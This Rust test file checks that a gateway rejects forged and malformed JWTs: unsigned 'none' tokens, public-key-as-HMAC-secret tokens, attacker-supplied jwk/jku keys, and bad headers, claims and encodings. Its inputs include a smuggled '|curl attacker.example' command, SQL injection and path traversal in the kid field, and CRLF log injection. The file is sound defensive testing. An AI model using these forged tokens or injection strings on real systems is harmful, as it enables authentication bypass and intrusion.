//! Known attacks on JWTs, through the built function: each is refused at once, costs no call and leaves nothing
//! of the token behind. Those that need a token signed to the letter are tested beside the code.
#![cfg(test)]

use std::time::{Duration, Instant};

use base64::{
    Engine,
    prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD},
};
use end_to_end::{Binary, Gateway, Request, Setup, World, http_get};
use sandbox::{Algorithm, KeyChoice, Mint};
use serde_json::{Map, Value, json};

const JWKS: &str = "/issuer/jwks";

fn object(value: Value) -> Map<String, Value> {
    value.as_object().unwrap().clone()
}

fn b64(bytes: impl AsRef<[u8]>) -> String {
    BASE64_URL_SAFE_NO_PAD.encode(bytes)
}

/// Reads of the issuer's keys so far.
fn key_fetches(world: &World) -> usize {
    world.sandbox.calls().iter().filter(|call| call.path == JWKS).count()
}

/// Sends each token through both gateways: 401, at once, no call, and nothing of it in the answer or the log.
async fn all_refused(world: &World, tokens: Vec<(&str, String)>) {
    let reads = world.secrets.reads().len();
    let fetches = key_fetches(world);
    for (attack, token) in &tokens {
        for gateway in Gateway::BOTH {
            let began = Instant::now();
            let answer = world.send_through(gateway, &Request::get("/calendly/user").bearer(token)).await;
            assert_eq!(answer.verdict(), (401, "token_invalid".to_owned()), "{attack}: {token}");
            assert!(began.elapsed() < Duration::from_secs(2), "{attack} took {:?}", began.elapsed());
            let challenge = answer.header("www-authenticate").unwrap();
            assert!(
                challenge.starts_with(r#"Bearer realm="calendly", error="invalid_token", "#),
                "{challenge}"
            );
            for part in telling_parts(token) {
                assert!(!format!("{:?}{}", answer.headers, answer.body).contains(part), "{attack}: {part}");
            }
        }
    }
    assert_eq!(world.calendly_paths(), Vec::<String>::new());
    assert_eq!(world.secrets.reads().len(), reads);
    assert!(key_fetches(world) <= fetches + 1, "at most one fetch per cool-down");
    world.function.kill().await;
    let log = world.function.raw_output();
    assert!(log.contains("token_invalid"), "the requests are in the log: {log}");
    for (attack, token) in &tokens {
        for part in telling_parts(token) {
            assert!(!log.contains(part), "{attack}: {part} is in the log");
        }
    }
}

/// The parts of a token that stand nowhere by chance.
fn telling_parts(token: &str) -> impl Iterator<Item = &str> {
    token.split('.').filter(|part| part.len() >= 12)
}

/// A signed token whose header has these members.
fn with_header(world: &World, header: Value) -> String {
    world.sandbox.mint(Mint { header: object(header), ..Mint::default() })
}

fn with_claims(world: &World, claims: Value) -> String {
    world.sandbox.mint(Mint { claims: object(claims), ..Mint::default() })
}

/// A good token's claims and signature under another header.
fn under(good: &str, header: &str) -> String {
    let (_, rest) = good.split_once('.').unwrap();
    format!("{}.{rest}", b64(header))
}

#[tokio::test(flavor = "multi_thread")]
async fn none_in_every_letter_case() {
    let world = Setup::of(Binary::User).start().await;
    let good = world.sandbox.token();
    let message = good.rsplit_once('.').unwrap().0;
    let claims = message.split_once('.').unwrap().1;
    let mut tokens = vec![
        ("unsigned", world.sandbox.mint(Mint { algorithm: Algorithm::None, ..Mint::default() })),
        ("signature removed", format!("{message}.")),
        ("signature and dot removed", message.to_owned()),
    ];
    for bits in 0..16_u8 {
        let letter = |(index, letter): (usize, char)| {
            if bits >> index & 1 == 1 { letter.to_ascii_uppercase() } else { letter }
        };
        let none: String = "none".chars().enumerate().map(letter).collect();
        let header = format!(r#"{{"alg":"{none}","typ":"JWT","kid":"rsa-1"}}"#);
        tokens.push(("none", format!("{}.{claims}.", b64(&header))));
        tokens.push(("none with a signature", under(&good, &header)));
    }
    for header in [r#"{"alg":""}"#, r#"{"alg":null}"#, r#"{"alg":false}"#, "{}", r#"{"alg":"none\u0000"}"#] {
        tokens.push(("no algorithm", format!("{}.{claims}.", b64(header))));
    }
    all_refused(&world, tokens).await;
}

/// The public key as OpenSSL writes it.
fn pem(jwk: &Value) -> String {
    let integer = |name: &str| {
        let bytes = BASE64_URL_SAFE_NO_PAD.decode(jwk[name].as_str().unwrap()).unwrap();
        let sign = if bytes[0] >= 0x80 { vec![0] } else { vec![] };
        der(0x02, &[sign, bytes].concat())
    };
    let key = der(0x30, &[integer("n"), integer("e")].concat());
    let rsa_encryption = [0x30, 13, 6, 9, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 1, 1, 5, 0];
    let document = der(0x30, &[rsa_encryption.to_vec(), der(0x03, &[vec![0], key].concat())].concat());
    let text = BASE64_STANDARD.encode(document);
    let lines: Vec<&str> =
        text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n"))
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = u16::try_from(content.len()).unwrap();
    let length = if length < 0x80 {
        vec![length.to_be_bytes()[1]]
    } else {
        [vec![0x82], length.to_be_bytes().to_vec()].concat()
    };
    [vec![tag], length, content.to_vec()].concat()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_public_key_as_the_secret_of_an_hmac() {
    let world = Setup::of(Binary::User).start().await;
    let jwks = http_get(&format!("{}{JWKS}", world.sandbox.base_url()), "", &[]).await;
    let jwk = serde_json::from_str::<Value>(&jwks).unwrap()["keys"][0].clone();
    let pem = pem(&jwk);
    let mut tokens = Vec::new();
    for algorithm in [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512] {
        for secret in [
            pem.clone(),
            pem.trim_end().to_owned(),
            jwk.to_string(),
            jwks.clone(),
            jwk["n"].as_str().unwrap().to_owned(),
            "rsa-1".to_owned(),
            "AQAB".to_owned(),
            String::new(),
        ] {
            for header in [json!({"kid": "rsa-1"}), json!({}), json!({"kid": "/dev/null"})] {
                let mint =
                    Mint { algorithm, secret: secret.clone(), header: object(header), ..Mint::default() };
                tokens.push(("a public key as a secret", world.sandbox.mint(mint)));
            }
        }
    }
    let fetches = key_fetches(&world);
    all_refused(&world, tokens).await;
    assert_eq!(key_fetches(&world), fetches, "no key that is published verifies an HMAC");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_key_that_the_token_brings_along() {
    let world = Setup::of(Binary::User).start().await;
    let jwks = http_get(&format!("{}{JWKS}", world.sandbox.base_url()), "", &[]).await;
    let jwk = serde_json::from_str::<Value>(&jwks).unwrap()["keys"][0].clone();
    let elsewhere = format!("{}/attacker", world.sandbox.base_url());
    let forged = |header: Value| {
        let mint = Mint { key: KeyChoice::Forged, header: object(header), ..Mint::default() };
        world.sandbox.mint(mint)
    };
    let tokens = vec![
        ("jwk", forged(json!({"jwk": jwk}))),
        ("jwk, no kid", forged(json!({"jwk": jwk, "kid": null}))),
        ("jwk, other kid", forged(json!({"jwk": jwk, "kid": "attacker"}))),
        ("jku", forged(json!({"jku": elsewhere}))),
        ("jku, other kid", forged(json!({"jku": elsewhere, "kid": "attacker"}))),
        ("x5u", forged(json!({"x5u": elsewhere}))),
        ("x5c", forged(json!({"x5c": ["MIIB"]}))),
        ("kid is a URL", forged(json!({"kid": elsewhere}))),
    ];
    all_refused(&world, tokens).await;
    let calls = world.sandbox.calls();
    assert!(calls.iter().all(|call| call.path != "/attacker"), "nobody follows a token's links");
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_that_a_good_signature_does_not_save() {
    let world = Setup::of(Binary::User).start().await;
    let tokens = vec![
        ("crit", with_header(&world, json!({"crit": ["exp"]}))),
        ("crit of an extension", with_header(&world, json!({"crit": ["http://openbanking.org.uk/iat"]}))),
        ("empty crit", with_header(&world, json!({"crit": []}))),
        ("unencoded payload", with_header(&world, json!({"b64": false, "crit": ["b64"]}))),
        ("b64 alone", with_header(&world, json!({"b64": false}))),
        ("typ of a logout token", with_header(&world, json!({"typ": "logout+jwt"}))),
        ("typ of a DPoP proof", with_header(&world, json!({"typ": "dpop+jwt"}))),
        ("typ of a request object", with_header(&world, json!({"typ": "oauth-authz-req+jwt"}))),
        ("typ is no text", with_header(&world, json!({"typ": 1}))),
        ("kid is a path", with_header(&world, json!({"kid": "../../../../../../dev/null"}))),
        ("kid is SQL", with_header(&world, json!({"kid": "x' UNION SELECT 'secret' --"}))),
        ("kid is a command", with_header(&world, json!({"kid": "|curl attacker.example"}))),
        (
            "kid splits lines",
            with_header(&world, json!({"kid": "rsa-1\r\nX-Forged: 1\n{\"level\":\"INFO\"}"})),
        ),
        ("kid is a list", with_header(&world, json!({"kid": ["rsa-1"]}))),
        ("kid of another type", with_header(&world, json!({"kid": "ec-p256"}))),
        ("alg of another type", with_header(&world, json!({"alg": "ES256"}))),
        ("alg of another padding", with_header(&world, json!({"alg": "PS256"}))),
        ("alg of another hash", with_header(&world, json!({"alg": "RS512"}))),
        ("alg that is weak", with_header(&world, json!({"alg": "RS1"}))),
        ("alg of an encrypted token", with_header(&world, json!({"alg": "RSA-OAEP", "enc": "A128GCM"}))),
    ];
    all_refused(&world, tokens).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn claims_that_a_good_signature_does_not_save() {
    let world = Setup::of(Binary::User).start().await;
    let issuer = world.sandbox.issuer_url();
    let tokens = vec![
        ("negative exp", with_claims(&world, json!({"exp": -1}))),
        ("smallest exp", with_claims(&world, json!({"exp": i64::MIN}))),
        ("largest exp", with_claims(&world, json!({"exp": u64::MAX}))),
        ("exp beyond time", with_claims(&world, json!({"exp": 1e308}))),
        ("exp is a text", with_claims(&world, json!({"exp": "9999999999"}))),
        ("negative nbf", with_claims(&world, json!({"nbf": -1}))),
        ("huge nbf", with_claims(&world, json!({"nbf": 1e308}))),
        ("nbf ahead", with_claims(&world, json!({"nbf": 253_402_300_799_i64}))),
        ("no exp", with_claims(&world, json!({"exp": null}))),
        ("no aud", with_claims(&world, json!({"aud": null}))),
        ("no iss", with_claims(&world, json!({"iss": null}))),
        ("no sub", with_claims(&world, json!({"sub": null}))),
        ("a longer iss", with_claims(&world, json!({"iss": format!("{issuer}.attacker.example")}))),
        ("a shorter iss", with_claims(&world, json!({"iss": &issuer[..issuer.len() - 1]}))),
        ("a list as iss", with_claims(&world, json!({"iss": [issuer]}))),
        ("a longer aud", with_claims(&world, json!({"aud": "calendly-functions-admin"}))),
        (
            "aud for another, client_id for us",
            with_claims(&world, json!({"aud": "x", "client_id": "calendly-functions"})),
        ),
    ];
    all_refused(&world, tokens).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn other_spellings_of_a_good_token() {
    let world = Setup::of(Binary::User).start().await;
    let good = world.sandbox.token();
    let [header, claims, signature] = good.split('.').collect::<Vec<_>>()[..] else { panic!("{good}") };
    let doubled = |part: &str, member: &str| {
        let json = String::from_utf8(BASE64_URL_SAFE_NO_PAD.decode(part).unwrap()).unwrap();
        b64(json.replacen('{', &format!("{{{member},"), 1))
    };
    // The last of the 342 characters of a signature of 256 bytes has four bits to spare.
    let last = signature.chars().last().unwrap();
    let spare = char::from(u8::try_from(last).unwrap() + 1);
    let spare_bits = format!("{}{spare}", &good[..good.len() - 1]);
    let tokens = vec![
        ("trailing dot", format!("{good}.")),
        ("trailing dots", format!("{good}...")),
        ("leading dot", format!(".{good}")),
        ("five parts", format!("{good}.{claims}.{signature}")),
        ("padded signature", format!("{good}==")),
        ("padded header", format!("{header}=.{claims}.{signature}")),
        ("spare bits", spare_bits),
        ("standard base64", good.replace('-', "+").replace('_', "/")),
        ("a space inside", format!("{header}.{claims} .{signature}")),
        ("a line break inside", format!("{header}.{claims}.\n{signature}")),
        ("a doubled alg", format!("{}.{claims}.{signature}", doubled(header, r#""alg":"none""#))),
        ("a doubled sub", format!("{header}.{}.{signature}", doubled(claims, r#""sub":"admin""#))),
        ("unencoded claims", format!("{header}.{}.{signature}", r#"{"sub":"admin"}"#)),
        (
            "JSON serialization",
            json!({"protected": header, "payload": claims, "signature": signature}).to_string(),
        ),
        ("not ASCII", format!("{header}.{claims}.ſ{signature}")),
        ("9 KiB", with_claims(&world, json!({"pad": "x".repeat(9 * 1024)}))),
        ("5 MB", "a".repeat(5_000_000)),
        ("dots only", ".".repeat(8_000)),
        ("deep", format!("{}.{claims}.{signature}", b64("[".repeat(5_000)))),
    ];
    let fetches = key_fetches(&world);
    all_refused(&world, tokens).await;
    assert_eq!(key_fetches(&world), fetches);
}

#[tokio::test(flavor = "multi_thread")]
async fn two_authorization_headers() {
    let world = Setup::of(Binary::User).start().await;
    let token = world.sandbox.token();
    let bearer = format!("Bearer {token}");
    for (first, second) in [
        (bearer.as_str(), bearer.as_str()),
        (&bearer, "Basic dXNlcjpwYXNz"),
        ("Basic dXNlcjpwYXNz", &bearer),
        ("Bearer", &bearer),
        (&bearer, "Bearer"),
    ] {
        let request =
            Request::get("/calendly/user").header("Authorization", first).header("authorization", second);
        for gateway in Gateway::BOTH {
            let answer = world.send_through(gateway, &request).await;
            assert_eq!(answer.verdict(), (401, "token_invalid".to_owned()), "{first}, {second}");
        }
    }
    assert_eq!(world.calendly_paths(), Vec::<String>::new());
}
